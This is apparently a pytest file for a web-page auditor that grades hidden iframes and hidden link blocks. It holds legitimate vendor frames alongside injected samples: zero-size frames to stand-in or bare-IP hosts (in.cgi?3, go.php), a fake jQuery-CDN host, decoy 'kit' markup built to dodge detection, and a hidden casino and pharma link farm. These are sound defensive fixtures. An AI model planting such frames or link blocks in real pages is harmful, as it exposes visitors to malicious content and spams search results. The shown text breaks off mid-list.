"""What a hidden frame or a hidden block of links is for, judged as a reviewer would sign
it, audited with the system lists. Real pages carry hidden third-party frames for jobs
their vendors document (a card issuer's 3-D Secure method frame, a bidder's user sync, a
CMP's locator, a group's single sign-on, a fraud check's profiling frame) and hidden
blocks of links a script opens (a tab panel, a collapsed list of the group's sites); an
injection puts its frame or links where no template writes, or on an address no vendor
serves from. Each page is one we wrote after the vendor's published snippet or the form
incident write-ups show; hosts and IDs are made up. docs/ACCURACY.md ("When a hidden
frame or link block is high") says what each severity means.
"""

from __future__ import annotations

import base64

import pytest

from auditor.model import Severity

from .conftest import AuditHtml, AuditListed
from .test_injection_families import URL, wp_page

H, M, L = Severity.HIGH, Severity.MEDIUM, Severity.LOW
SHOP = "https://www.harbourbakery.example/checkout/"


def _frames(report_findings: tuple[object, ...]) -> list[Severity]:
    return [f.severity for f in report_findings  # type: ignore[attr-defined]
            if f.kind == "hidden-iframe"]  # type: ignore[attr-defined]


# what goes with a user-sync frame: the header bidding that drops it (Prebid's library
# and its setup, as its docs show them); with a group's sign-in frame: the sign-in link
# to its host
_PREBID_SETUP = ("<script>var pbjs = pbjs || {}; pbjs.que = pbjs.que || []; pbjs.que.push("
                 "function() { pbjs.setConfig({userSync: {filterSettings: {iframe: {bidders:"
                 " '*', filter: 'include'}}}}); });</script>")
_PREBID = ('<script async src="https://www.harbourgazette.example/js/prebid9.14.0.js">'
           "</script>" + _PREBID_SETUP)


def _sign_in(host: str) -> str:
    return f'<a class="account-link" href="https://{host}/login?ref=header">Anmelden</a>'


# what a 3-D Secure frame comes with: the checkout's card form
_CHECKOUT = ('<form id="payment-form" action="/checkout/pay" method="post"><input '
             'id="card-number" name="cardnumber" autocomplete="cc-number"></form>')


# (what, where on the page, the frame's markup, the most a reviewer should see)
LEGITIMATE: list[tuple[str, str, str]] = [
    # EMVCo 3-D Secure 2: the method URL loaded in a hidden frame the SDK names
    ("a 3-D Secure method frame, by its name", "post", _CHECKOUT +
     '<iframe name="threeDSMethodIframe" src="https://acs.kuestenbank-3ds.example/method?tx=9f2c"'
     ' style="visibility:hidden;position:absolute;width:1px;height:1px"></iframe>'),
    # Cardinal Commerce's device data collection frame, as CyberSource documents it
    ("a 3-D Secure device data collection frame", "post", _CHECKOUT +
     '<iframe id="cardinal_collection_iframe" name="collectionIframe" height="1" width="1" '
     'style="display: none;" src="https://ddc.paygate-example.example/V1/Cruise/Collect">'
     "</iframe>"),
    ("a card issuer's 3-D Secure server, by its address", "footer", _CHECKOUT +
     '<iframe src="https://acs2.issuer-bank.example/3ds/method?id=77" width="0" height="0" '
     'style="display:none"></iframe>'),
    # an SSP the catalogue does not know, its Prebid user-sync and cookie-match frames
    ("an unknown SSP's user-sync frame", "footer",
     _PREBID + '<iframe src="https://sync.adkernel-partner.example/user-sync?zone=123" '
     'width="0" '
     'height="0" frameborder="0" style="display:none"></iframe>'),
    # a catalogued SSP's user-sync frame, its bidder config in a bundle the page does not
    # show: no worse than an unknown SSP's (AdKernel became known in the reach branch)
    ("a known SSP's user-sync frame, no tag of it on the page", "footer",
     '<iframe src="https://sync.adkernel.com/user-sync?t=iframe&zone=30164" width="0" '
     'height="0" frameborder="0" style="display:none"></iframe>'),
    ("an unknown exchange's cookie_sync frame", "footer",
     _PREBID + '<iframe src="https://cs.bidwharf.example/cookie_sync?p=4411" width="1" '
     'height="1" '
     'style="display:none"></iframe>'),
    ("an unknown DSP's getuid frame", "footer",
     _PREBID + '<iframe src="https://ums.tidebid.example/getuid?redir=x" width="0" '
     'height="0" '
     'style="display:none"></iframe>'),
    ("an unknown exchange's match frame", "footer",
     _PREBID + '<iframe src="https://match.quayads.example/match?pid=12" width="0" '
     'height="0" '
     'style="display:none"></iframe>'),
    # the IAB's CMP stub: its locator frame has no address
    ("a CMP stub's locator frame", "footer",
     '<iframe name="__tcfapiLocator" style="display:none"></iframe>'),
    # a publisher group's single sign-on and cross-domain storage on a sister domain
    ("a group's single sign-on check frame", "footer",
     _sign_in("konto.verlagsgruppe-nord.example")
     + '<iframe src="https://konto.verlagsgruppe-nord.example/sso/check.html" '
     'style="display:none" width="0" height="0"></iframe>'),
    ("a group's cross-domain storage frame", "footer",
     _sign_in("id.mediagroup-login.example")
     + '<iframe src="https://id.mediagroup-login.example/xdomain/storage.html" width="0" '
     'height="0" style="display:none"></iframe>'),
    ("Keycloak's login status frame", "footer",
     _sign_in("auth.harbour-id.example")
     + '<iframe src="https://auth.harbour-id.example/realms/news/protocol/openid-connect/'
     'login-status-iframe.html" style="display:none" title="keycloak-session-iframe">'
     "</iframe>"),
    # captchas: the catalogue's (reCAPTCHA, hCaptcha, Turnstile) and one it does not know
    ("reCAPTCHA's invisible challenge frame", "footer",
     '<div style="visibility:hidden;position:absolute;top:-10000px"><iframe title="recaptcha'
     ' challenge" src="https://www.google.com/recaptcha/api2/bframe?hl=en&k=6LcXq27" '
     'width="400" height="580"></iframe></div>'),
    ("hCaptcha's hidden challenge frame", "footer",
     '<div style="visibility:hidden;position:absolute"><iframe src="https://newassets.hcaptcha'
     '.com/captcha/v1/a1b2/static/hcaptcha.html#frame=challenge" width="400" height="600">'
     "</iframe></div>"),
    ("Turnstile's invisible widget", "footer",
     '<iframe src="https://challenges.cloudflare.com/cdn-cgi/challenge-platform/h/g/turnstile/'
     'if/ov2/av0/rcv0/0/x9q/0x4AAAAAAAq27/auto/normal" style="display:none" width="0" '
     'height="0"></iframe>'),
    # Google Identity Services, as its docs load it: the client and its One Tap frame
    ("Google Sign-In's client and its frame", "footer",
     '<script src="https://accounts.google.com/gsi/client" async defer></script><div id='
     '"g_id_onload" data-client_id="1234-q27.apps.googleusercontent.com"></div><iframe src='
     '"https://accounts.google.com/gsi/iframe/select?client_id=1234-q27.apps.googleusercontent'
     '.com" style="display:none" width="0" height="0"></iframe>'),
    # ThreatMetrix's profiling tag, its noscript frame off-screen as documented
    ("ThreatMetrix's profiling frame", "footer",
     '<noscript><iframe style="width:100px;height:100px;border:0;position:absolute;top:-5000px"'
     ' src="https://h.online-metrix.net/fp/tags?org_id=q27xk1&session_id=a1b2c3"></iframe>'
     "</noscript>"),
    # Funding Choices' presence frame, as its signal code writes it (no address)
    ("Funding Choices' googlefcPresent frame", "footer",
     '<iframe name="googlefcPresent" style="width:0;height:0;border:none;z-index:-1000;'
     'left:-1000px;top:-1000px;display:none"></iframe>'),
    # a video and a sign-up form in dialogs a button opens
    ("a video in a closed modal", "post",
     '<button data-bs-toggle="modal" data-bs-target="#clip">Watch</button><div id="clip" '
     'style="display:none"><iframe src="https://player.tidevideo.example/embed/8812" '
     'width="640" height="360"></iframe></div>'),
    ("a newsletter form in a closed popup with its close button", "footer",
     '<div class="newsletter-popup" style="display:none"><button class="close" aria-label='
     '"Close">×</button><iframe src="https://forms.letterbox-mail.example/f/q27" width="480" '
     'height="320"></iframe></div><script>setTimeout(function () { document.querySelector('
     "'.newsletter-popup').style.display = 'block'; }, 20000);</script>"),
    # brands' own sign-in and payment domains the name alone read as dressed (high in
    # review): MSAL's silent token renewal, Amazon Pay's and Stripe's asset frames
    ("MSAL's silent token renewal on Microsoft's sign-in host", "footer",
     '<iframe src="https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id='
     'q27&prompt=none&response_mode=fragment" style="visibility:hidden;position:absolute;'
     'width:0;height:0;border:none"></iframe>'),
    ("an Amazon Pay frame", "footer",
     '<iframe src="https://static-eu.payments-amazon.com/cba/js/gb/PaymentWidgets.html" '
     'style="display:none" width="0" height="0"></iframe>'),
    ("a Stripe frame on its CDN", "footer",
     '<iframe src="https://b.stripecdn.com/stripethirdparty-srv/assets/v21.8/Frame.html" '
     'width="0" height="0" style="display:none"></iframe>'),
    ("Intercom's messenger frame preloaded", "footer",
     '<iframe name="intercom-frame" src="https://widget.intercom.io/widget/q27xk1" '
     'style="display:none"></iframe>'),
    # a tag service the catalogue does not know: its loader script, and for visitors
    # without scripts its zero-size frame (the pair Japanese publishers' pages carry)
    ("an unknown tag service's noscript fallback frame", "head",
     '<script type="text/javascript">(function(d,u){var b=d.getElementsByTagName("script")[0],'
     'j=d.createElement("script");j.async=true;j.src=u;b.parentNode.insertBefore(j,b);})('
     'document,"//img.tagrelay.example/ut/9f2c41aa07be3d15_2718.js");</script><noscript>'
     '<iframe src="//px.tagrelay-sync.example/9f2c41aa07be3d15_2718.php" width="0" height="0"'
     ' frameborder="0"></iframe></noscript>'),
    # captcha vendors the catalogue did not know, their script as each integration guide
    # loads it and their challenge frame hidden until a visitor is challenged: medium
    # once a frame's own host's script vouched for nothing (verd32)
    ("GeeTest v4's challenge frame beside gt4.js", "footer",
     '<script src="https://static.geetest.com/v4/gt4.js"></script><div style="display:none">'
     '<iframe src="https://static.geetest.com/captcha/v4/frame.html?id=q27"></iframe></div>'),
    ("Yandex SmartCaptcha's invisible frame", "footer",
     '<script src="https://smartcaptcha.yandexcloud.net/captcha.js" defer></script><iframe '
     'src="https://smartcaptcha.yandexcloud.net/checkbox?sitekey=ysc1_q27&hl=ru" '
     'style="display:none" width="0" height="0"></iframe>'),
    ("the AWS WAF CAPTCHA API's frame", "footer",
     '<script src="https://q27x.eu-west-1.captcha-sdk.awswaf.com/q27x/jsapi.js" defer>'
     '</script><iframe src="https://q27x.eu-west-1.captcha-sdk.awswaf.com/q27x/captcha.html"'
     ' style="display:none" width="0" height="0"></iframe>'),
    ("Friendly Captcha's puzzle frame", "footer",
     '<iframe src="https://api.friendlycaptcha.com/api/v1/captcha/puzzle" '
     'style="display:none" width="0" height="0"></iframe>'),
    ("Arkose Labs' enforcement frame", "footer",
     '<script src="https://client-api.arkoselabs.com/v2/Q27X-1234/api.js" async defer>'
     '</script><div style="display:none"><iframe src="https://client-api.arkoselabs.com/v2/'
     '2.3.0/enforcement.q27.html" title="Verification challenge"></iframe></div>'),
    # an AMP page's amp-ad collapsed with no fill: its frame on the runtime's 3p host
    ("a collapsed amp-ad's AMP frame", "post",
     '<amp-ad width="300" height="250" type="doubleclick" data-slot="/1234/q27" style='
     '"display:none"><iframe src="https://d-1234.ampproject.net/2311172120000/frame.html" '
     'width="300" height="250"></iframe></amp-ad>'),
    ("Pushwoosh's subscription frame", "footer",
     '<script src="https://cdn.pushwoosh.com/webpush/v3/pushwoosh-web-notifications.js" '
     'async></script><iframe src="https://cdn.pushwoosh.com/webpush/v3/iframe.html?h=q27" '
     'style="display:none" width="0" height="0"></iframe>'),
]


# (what, the footer): a frame of a host the catalogue does not know, claiming a job by its
# name or address, beside a script of its own host and nothing else of it. A kit writes
# exactly this (its `<script src>` bought it `low`, verd31); so does an SDK of a vendor the
# catalogue does not know: the same markup, so the same check, `medium`
OWN_SCRIPT_ONLY: list[tuple[str, str]] = [
    ("a captcha frame beside its host's api.js",
     '<script src="https://captcha.friendlycheck.example/widget/v1/api.js" async defer>'
     '</script><iframe src="https://captcha.friendlycheck.example/widget/invisible" '
     'width="0" height="0" style="display:none"></iframe>'),
    ("a CMP locator frame beside its host's stub",
     '<script src="https://cmp.consentharbour.example/stub.js"></script>'
     '<iframe name="__tcfapiLocator" src="https://cmp.consentharbour.example/locator.html" '
     'style="display:none"></iframe>'),
    ("a sign-in frame beside its host's SDK",
     '<script src="https://login.vexor-id.example/sdk.js"></script><iframe src="https://'
     'login.vexor-id.example/sso/check.html" width="0" height="0" style="display:none">'
     "</iframe>"),
]


@pytest.mark.parametrize(("what", "footer"), OWN_SCRIPT_ONLY, ids=[c[0] for c in OWN_SCRIPT_ONLY])
def test_a_frames_own_hosts_script_vouches_for_nothing(
        what: str, footer: str, audit_listed: AuditListed) -> None:
    """Its own host's script was `shown_beyond` and the frame `low`; a visible link to the
    host (a sign-in link, as a group's sites show) still makes it the site's, `low`."""
    report = audit_listed(wp_page(footer=footer), URL)
    found = [f for f in report.findings if f.kind == "hidden-iframe"]
    assert [f.severity for f in found] == [M], [(f.severity, f.message) for f in found]
    assert "vouches for nothing" in found[0].message
    host = footer.split("https://")[1].split("/")[0]
    linked = audit_listed(wp_page(footer=_sign_in(host) + footer), URL)
    assert _frames(linked.findings) == [L]


# what a kit adds beside its sign-in or captcha frame to show its host "to the visitor":
# a link no visitor sees (a rule of its own sheet hides it, it sits in `<noscript>` or a
# `<template>`, a screen-reader-only class), a form of hidden inputs alone, or a script on
# its own host at a path a self-hosted vendor's file has (Revive's `asyncjs.php`,
# Matomo's `matomo.js`: the catalogue names the file's vendor on any host, not the host
# as a vendor's). Each read low before.
_KIT_LOGIN = ('<iframe src="https://login.casino-x.example/sso/check.html" width="0" '
              'height="0" style="display:none"></iframe>')
_KIT_CAPTCHA = ('<iframe src="https://captcha.kitcheck.example/widget/invisible" width="0" '
                'height="0" style="display:none"></iframe>')
KIT_VOUCHES: list[tuple[str, str]] = [
    ("a link its own sheet hides", '<style>.k1{display:none}</style><a class="k1" href='
     '"https://login.casino-x.example/">Login</a>' + _KIT_LOGIN),
    ("a link in noscript", '<noscript><a href="https://login.casino-x.example/">Login</a>'
     "</noscript>" + _KIT_LOGIN),
    ("a link in a template", '<template><a href="https://login.casino-x.example/">Login</a>'
     "</template>" + _KIT_LOGIN),
    ("a screen-reader-only link", '<a class="sr-only" href="https://login.casino-x.example/">'
     "Login</a>" + _KIT_LOGIN),
    ("a form of hidden inputs", '<form action="https://login.casino-x.example/p" method="post">'
     '<input type="hidden" name="a" value="1"></form>' + _KIT_LOGIN),
    ("Revive's loader path on the kit's host", '<script async src="https://login.casino-x.'
     'example/www/delivery/asyncjs.php"></script>' + _KIT_LOGIN),
    ("Matomo's file on the kit's captcha host", '<script async src="https://captcha.kitcheck'
     '.example/matomo.js"></script>' + _KIT_CAPTCHA),
]


@pytest.mark.parametrize(("what", "footer"), KIT_VOUCHES, ids=[c[0] for c in KIT_VOUCHES])
def test_what_no_visitor_sees_and_a_vendors_file_name_vouch_for_nothing(
        what: str, footer: str, audit_listed: AuditListed) -> None:
    report = audit_listed(wp_page(footer=footer), URL)
    assert _frames(report.findings) == [M], [(f.kind, f.message) for f in report.findings]


def test_a_visible_sign_in_link_and_form_still_vouch(audit_listed: AuditListed) -> None:
    """The group's sign-in link in a header, and a visible log-in form posting there."""
    form = ('<form action="https://login.casino-x.example/p" method="post"><input name="user">'
            "<button>Log in</button></form>")
    for shown in (_sign_in("login.casino-x.example"), form):
        report = audit_listed(wp_page(footer=shown + _KIT_LOGIN), URL)
        assert _frames(report.findings) == [L], [(f.kind, f.message) for f in report.findings]


@pytest.mark.parametrize(("what", "where", "frame"), LEGITIMATE, ids=[c[0] for c in LEGITIMATE])
def test_a_legitimate_hidden_frame_is_no_medium_or_high(
        what: str, where: str, frame: str, audit_listed: AuditListed) -> None:
    report = audit_listed(wp_page(**{where: frame}), URL)
    assert [(f.kind, f.message) for f in report.findings if f.severity is not L] == []


def test_a_documented_jobs_frame_says_so(audit_listed: AuditListed) -> None:
    """Low, naming the job, so a reviewer reads why it is not a finding to act on."""
    report = audit_listed(wp_page(footer=LEGITIMATE[3][2]), URL)
    (frame,) = [f for f in report.findings if f.kind == "hidden-iframe"]
    assert frame.severity is L and "user-sync" in frame.message


_CLASSIC = ('<iframe src="http://kdjfh7s.example/in.cgi?3" width=0 height=0 frameborder=0 '
            'style="visibility:hidden"></iframe>')
# (what, where on the page, the frame's markup): forms incident write-ups show
INJECTED: list[tuple[str, str, str]] = [
    ("the classic: plain http, in.cgi?3, on an https page", "footer", _CLASSIC),
    ("the classic after </html>", "after",
     _CLASSIC.replace("http://", "https://")),
    ("a frame before <html>", "head_top", ""),  # filled below: before the start tag
    ("a frame to a bare IP address", "widget",
     '<iframe src="https://91.212.3.17/go.php?sid=2" width="1" height="1" '
     'style="visibility:hidden"></iframe>'),
    ("SimpleTDS's go.php in a hidden wrapper", "post",
     '<div style="display:none"><iframe src="https://trafficfox.example/go.php?sid=7">'
     "</iframe></div>"),
    ("a bare-number query on a PHP script", "footer",
     '<iframe src="https://wolke-sieben.example/index.php?4471" width="0" height="0">'
     "</iframe>"),
    ("a host dressed as jQuery's CDN", "footer",
     '<iframe src="https://jquery-cdn-min.example/f.html" width="0" height="0" '
     'style="display:none"></iframe>'),
    ("a user-sync name on plain http", "footer",
     '<iframe src="http://sync.kdjfh7s.example/usersync?id=3" width="0" height="0"></iframe>'),
    ("a user-sync name after </html>", "after",
     '<iframe src="https://sync.kdjfh7s.example/usersync?id=3" width="0" height="0"></iframe>'),
    ("a 3-D Secure name after </html>", "after",
     '<iframe name="threeDSMethodIframe" src="https://acs.kdjfh7s.example/m" width="0" '
     'height="0"></iframe>'),
    ("the classic inside <noscript>", "footer", f"<noscript>{_CLASSIC}</noscript>"),
]


@pytest.mark.parametrize(("what", "where", "frame"), INJECTED, ids=[c[0] for c in INJECTED])
def test_an_injected_hidden_frame_is_high(what: str, where: str, frame: str,
                                         audit_listed: AuditListed) -> None:
    if where == "head_top":
        page = ('<iframe src="https://brisk-wave.example/f.html" width="0" height="0"></iframe>'
                + wp_page())
    else:
        page = wp_page(**{where: frame})
    report = audit_listed(page, URL)
    assert H in _frames(report.findings), [(f.kind, f.message) for f in report.findings]


def test_an_unknown_hosts_frame_with_no_mark_and_no_job_is_medium(
        audit_listed: AuditListed) -> None:
    frame = ('<iframe src="https://brisk-wave.example/f.html" width="0" height="0" '
             'style="display:none"></iframe>')
    report = audit_listed(wp_page(footer=frame), URL)
    assert _frames(report.findings) == [M]


def test_a_frame_in_an_svgs_noscript_is_no_scripts_fallback(audit_listed: AuditListed) -> None:
    """Inside `<svg>` a `noscript` is a foreign element, no HTML `<noscript>`: a frame
    there is no tag's fallback for visitors without scripts, whose low a reviewer would
    read as the vendor's documented pair; a frame in an HTML one is."""
    frame = ('<iframe src="https://brisk-wave.example/f.html" width="0" height="0">'
             '</iframe>')
    svg = audit_listed(wp_page(footer=f"<svg><noscript>{frame}</noscript></svg>"), URL)
    html = audit_listed(wp_page(footer=f"<noscript>{frame}</noscript>"), URL)
    assert (_frames(svg.findings), _frames(html.findings)) == ([M], [L])


# a retargeter's conversion tag as tag managers' custom-HTML tags paste it: for visitors
# without scripts, its zero-size frame (Rocket Fuel's `<action>p.rfihub.com/ca.html`, the
# twin of its `ca.gif` pixel); IDs made up
_RF_FRAME = ('<iframe style="display:none;padding:0;margin:0;" width="0" height="0" '
             'src="https://41235577p.rfihub.com/ca.html?rb=4411&amp;ca=20881234&amp;ra=cb">'
             "</iframe>")


@pytest.mark.parametrize("frame", [
    _RF_FRAME,
    # a host the catalogue files under an ad company naming no network of it (Adobe's
    # search-ads host): no worse than an unknown host's
    '<iframe src="https://www.everesttech.net/4411/t.html?ev_cl=1" width="0" height="0" '
    'style="display:none"></iframe>',
], ids=["an ad network's", "an ad company's host"])
def test_an_ad_networks_noscript_fallback_frame_is_low(frame: str,
                                                       audit_listed: AuditListed) -> None:
    """A catalogued ad network's frame in `<noscript>` is its tag's fallback, as an
    unknown host's there is (low) and Tag Manager's `ns.html` (none): it was medium, the
    one ad vendor's frame no tag on the page runs (blind38b npr)."""
    report = audit_listed(wp_page(footer=f"<noscript>{frame}</noscript>"), URL)
    found = [f for f in report.findings if f.kind == "hidden-iframe"]
    assert [f.severity for f in found] == [L], [(f.severity, f.message) for f in found]
    assert "no-script fallback" in found[0].message


@pytest.mark.parametrize("footer", [
    _RF_FRAME,  # the same frame outside <noscript>: loaded by every browser
    f"<noscript>{_RF_FRAME.replace('https://', 'http://')}</noscript>",  # a mark
    # a popunder network's frame: a pop needs its script, no no-script form
    '<noscript><iframe src="https://c1.popads.net/frame.html?s=4411" width="0" height="0" '
    'style="display:none"></iframe></noscript>',
], ids=["outside noscript", "plain http on an https page", "a popunder network's"])
def test_an_ad_networks_hidden_frame_no_fallback_stays_medium(
        footer: str, audit_listed: AuditListed) -> None:
    report = audit_listed(wp_page(footer=footer), URL)
    assert _frames(report.findings) == [M], [(f.kind, f.message) for f in report.findings]


_AD_SYNC = ('<iframe src="https://sync.adkernel.com/user-sync?zone=30164" width="0" '
            'height="0" style="display:none"></iframe>')


@pytest.mark.parametrize(("where", "frame"), [
    ("head_top", _AD_SYNC),
    ("footer", _AD_SYNC.replace("https://", "http://")),
], ids=["before <html>", "plain http on an https page"])
def test_an_ad_networks_sync_frame_with_an_injection_mark_is_no_low(
        where: str, frame: str, audit_listed: AuditListed) -> None:
    """A catalogued SSP's user-sync frame reads low as an unknown host's does, but
    before <html> or on plain http it read low too, where an unknown host's is high:
    the vendor's job by its address is no excuse for a place no template writes."""
    page = frame + wp_page() if where == "head_top" else wp_page(**{where: frame})
    report = audit_listed(page, URL)
    assert L not in _frames(report.findings), [(f.kind, f.message) for f in report.findings]


@pytest.mark.parametrize("in_post_body", [False, True])
def test_a_frame_in_a_post_body_is_high(in_post_body: bool, audit_html: AuditHtml) -> None:
    """SiteLock's and Sucuri's cleanups find the frame pasted into a post's content: a
    WordPress `content.rendered` is no place a vendor's helper frame is written."""
    html = ('<p>Story.</p><iframe src="https://brisk-wave.example/f.html" width="0" '
            'height="0"></iframe>')
    report = audit_html(html, url="https://www.ledger.example/news/ferry",
                        in_post_body=in_post_body)
    assert _frames(report.findings) == [H if in_post_body else M]


_PAGE = ("<!doctype html><html><head><title>Die Zeitung</title></head><body><main><article>"
         "<h1>Politik</h1><p>" + "Ein langer Absatz über Politik im Land. " * 6 + "</p>"
         "</article></main>{block}</body></html>{after}")
_FARM = ('<a href="https://cheap-viagra-online.example/">viagra</a> <a href="https://best-'
         'casino-bonus.example/">casino</a> <a href="https://payday-loans-fast.example/">'
         "loans</a>")
_PARTNERS = ('<a href="https://www.nordkurier-beispiel.example/">Nordkurier</a> <a href="https:'
             '//www.sportblatt-beispiel.example/">Sportblatt</a> <a href="https://www.wohnen-'
             'beispiel.example/">Wohnen</a>')
_LOGOS = "".join(
    f'<a href="https://www.{name.lower()}-beispiel.example/" aria-label="{name}"><svg '
    'viewBox="0 0 80 20" width="80" height="20"><path d="M0 0h80v20H0z"/></svg></a>'
    for name in ("Nordkurier", "Sportblatt", "Wohnen"))

# (what, block in the page's body, block after </html>, the hidden-links severities)
LINK_BLOCKS: list[tuple[str, str, str, list[Severity]]] = [
    ("a tab panel a tab button opens", '<div role="tablist"><button role="tab" aria-controls='
     f'"p2">Partner</button></div><div id="p2" role="tabpanel" hidden>{_PARTNERS}</div>', "",
     []),
    ("the group's sites in a footer list a button expands",
     '<footer><button aria-expanded="false" aria-controls="group-sites">Unsere Marken</button>'
     f'<ul id="group-sites" style="display:none"><li>{_PARTNERS}</li></ul></footer>', "", []),
    ("a Bootstrap collapse of partner links", '<a data-bs-toggle="collapse" href="#more" '
     f'data-bs-target="#more">Mehr</a><div id="more" style="display:none">{_PARTNERS}</div>',
     "", []),
    # Bootstrap 3 and 4's documented collapse: the toggling link's own href names it (no
    # data-target), read high in review
    ("a Bootstrap 3 collapse named by its link's href", '<a data-toggle="collapse" href="#'
     f'more">Mehr</a><div id="more" style="display:none">{_PARTNERS}</div>', "", []),
    ("a hamburger icon button opening the partner list", '<button data-bs-target="#brands" '
     f'><i class="fa fa-bars"></i></button><div id="brands" style="display:none">{_PARTNERS}'
     "</div>", "", []),
    # an empty button a theme's CSS draws the icon of (read high in this review): a
    # button is a box the visitor clicks whatever it holds
    ("an empty button whose icon is CSS, opening the group's sites",
     '<footer><button class="group-toggle" aria-controls="group-sites" aria-expanded="false">'
     f'</button><div id="group-sites" style="display:none">{_PARTNERS}</div></footer>', "", []),
    # a "read more" a visitor's click shows, its handler naming the block by its id or by a
    # path from the clicked element (`this`, `$(this)`), inline or bound by jQuery: the
    # page's own UI, as a control naming it by `aria-controls` is (read high before)
    ("a read-more block an onclick shows by its id", '<a href="#" onclick="document.'
     "getElementById('rm1').style.display='block';return false\">Weiterlesen</a><div id="
     f'"rm1" style="display:none">{_FARM}</div>', "", []),
    ("a read-more block $(this).next().show() shows", '<a href="#" onclick="$(this).next()'
     f'.show();return false">Weiterlesen</a><div style="display:none">{_FARM}</div>', "", []),
    ("a read-more block this.nextElementSibling shows", '<button onclick="this.'
     "nextElementSibling.style.display='block'\">Weiterlesen</button><div class=\"more\" "
     f'style="display:none">{_FARM}</div>', "", []),
    ("a read-more span $(this).siblings('.more').toggle() shows", "<p>Der Rat tagt.<button "
     "onclick=\"$(this).siblings('.more').toggle()\">mehr</button><span class=\"more\" "
     f'style="display:none">{_FARM}</span></p>', "", []),
    ("a read-more block $(this).parent().find('.more') shows", '<div class="teaser"><button '
     "onclick=\"$(this).parent().find('.more').slideDown()\">mehr</button><div class=\"more\" "
     f'style="display:none">{_FARM}</div></div>', "", []),
    ("a read-more block its sheet hides, a bound handler shows", "<style>.more{display:none}"
     '</style><div class="teaser"><a class="rm" href="#">Weiterlesen</a><div class="more">'
     f"{_FARM}</div></div><script>$('.rm').click(function(e){{e.preventDefault();"
     "$(this).next().show();});</script>", "", []),
    ("a read-more block a delegated handler shows", '<div class="teaser"><a class="rm" '
     f'href="#">Weiterlesen</a><div style="display:none">{_FARM}</div></div><script>'
     "$(document).on('click', '.rm', function(){{ $(this).next().slideToggle(); }});"
     "</script>", "", []),
    # what no click shows stays high: a handler that hides, one showing another element,
    # a control no visitor sees or with nothing to click, a selector no control matches,
    # and the words in prose
    ("a block $(this).next().hide() hides", '<a href="#" onclick="$(this).next().hide()">'
     f'Schliessen</a><div style="display:none">{_FARM}</div>', "", [H]),
    ("a block past the element $(this).next() shows", '<a href="#" onclick="$(this).next()'
     f'.show()">mehr</a><p>Text.</p><div style="display:none">{_FARM}</div>', "", [H]),
    ("a block a hidden read-more shows", '<a href="#" style="display:none" onclick="$(this).'
     f'next().show()">mehr</a><div style="display:none">{_FARM}</div>', "", [H]),
    ("a block an empty link's onclick shows", '<a href="#" onclick="$(this).next().show()">'
     f'</a><div style="display:none">{_FARM}</div>', "", [H]),
    ("a block a handler bound to no control shows", f'<div style="display:none">{_FARM}</div>'
     "<script>$('.rm-none').click(function(){{ $(this).next().show(); }});</script>", "",
     [H]),
    ("a block after the read-more words in prose", "<pre>$(this).next().show()</pre><div "
     f'style="display:none">{_FARM}</div>', "", [H]),
    ("a mobile off-canvas menu", f'<div id="mobile" class="offcanvas" style="display:none">'
     f"{_PARTNERS}</div>", "", []),
    ("a language switcher's list", '<div class="language-switcher"><ul style="display:none">'
     '<li><a href="https://www.example-news.fr/">FR</a></li><li><a href="https://www.example-'
     'news.it/">IT</a></li><li><a href="https://www.example-news.es/">ES</a></li></ul></div>',
     "", []),
    # Chakra UI's menu as it renders closed: the popper's positioner hidden by its inline
    # style, holding the list its visible button's aria-controls names (read high)
    ("Chakra's closed menu of the group's sites", '<div class="css-1ixr6lz"><button type='
     '"button" class="chakra-menu__menu-button css-1ibx0va" id="menu-button-:r1:" aria-'
     'expanded="false" aria-haspopup="menu" aria-controls="menu-list-:r1:"><span>Unsere '
     'Marken</span></button><div style="visibility:hidden;position:absolute;min-width:max-'
     'content;inset:0 auto auto 0" class="css-r6z5ec"><div class="chakra-menu__menu-list '
     'css-s5t7bz" tabindex="-1" role="menu" id="menu-list-:r1:" style="transform-origin:var('
     '--popper-transform-origin);opacity:0;visibility:hidden;transform:scale(0.8)">'
     f"{_PARTNERS}</div></div></div>", "", []),
    # MUI's accordion: the summary button names its region inside the collapsed wrapper
    # (Emotion's class hides the wrapper; as saved, the button's heading beside it)
    ("MUI's collapsed accordion of the group's sites", "<style data-emotion='css a1b2c3d'>"
     ".css-a1b2c3d{visibility:hidden;}</style><div class='acc'><h3 class='heading'><button "
     "aria-expanded='false' aria-controls='panel1-content'>Unsere Marken</button></h3><div "
     "class='css-a1b2c3d'><div class='wrapper'><div id='panel1-content' role='region'>"
     f"{_PARTNERS}</div></div></div></div>", "", []),
    ("a block holding a list only a hidden button names", '<button aria-controls="l1" hidden>'
     f'Marken</button><div style="visibility:hidden"><div id="l1">{_FARM}</div></div>', "",
     [H]),
    # a kit giving its block, or an element in it, the id the theme's footer toggle names,
    # after the theme's list (an id of no widget's words: a block named `menu` is one by its
    # names): the toggle opens the first element of the id, as a browser's lookup does
    ("a block bearing the id the theme's toggle names", '<footer><button aria-controls="group'
     '-sites" aria-expanded="false">Unsere Marken</button><ul id="group-sites" style="display'
     f':none"><li>{_PARTNERS}</li></ul></footer><div id="group-sites" style="display:none">'
     f"{_FARM}</div>", "", [H]),
    ("a block holding the id the theme's toggle names", '<footer><button aria-controls="group'
     '-sites" aria-expanded="false">Unsere Marken</button><ul id="group-sites" style="display'
     f':none"><li>{_PARTNERS}</li></ul></footer><div style="display:none"><div id="group-'
     f'sites">{_FARM}</div></div>', "", [H]),
    ("a skip link, visually hidden", '<a class="skip-link" href="#main" style="position:'
     'absolute;left:-10000px">Zum Inhalt</a>', "", []),
    # the injected forms stay high
    ("a display:none block of casino and pharma links", f'<div style="display:none">{_FARM}'
     "</div>", "", [H]),
    ("an off-screen block", f'<div style="position:absolute;left:-9999px">{_FARM}</div>', "",
     [H]),
    ("a block of links no button opens", f'<div id="more-sites" style="display:none">{_FARM}'
     "</div>", "", [H]),
    ("a 'menu' block after </html>", "", f'\n<div class="menu" style="display:none">{_FARM}'
     "</div>", [H]),
    # a widget's names borrowed with nothing to click (read none in review): an empty link
    # naming the block, a tab panel on a page with no tab
    ("a block an empty link says it opens", '<a aria-controls="seo1" href="#"></a><div id='
     f'"seo1" style="display:none">{_FARM}</div>', "", [H]),
    # an empty button counts as a box the visitor clicks, not one its own markup hides
    ("a block an empty hidden button says it opens", '<button aria-controls="seo1" hidden>'
     f'</button><div id="seo1" style="display:none">{_FARM}</div>', "", [H]),
    ("a block an empty display:none button says it opens", '<button aria-controls="seo1" '
     f'style="display:none"></button><div id="seo1" style="display:none">{_FARM}</div>', "",
     [H]),
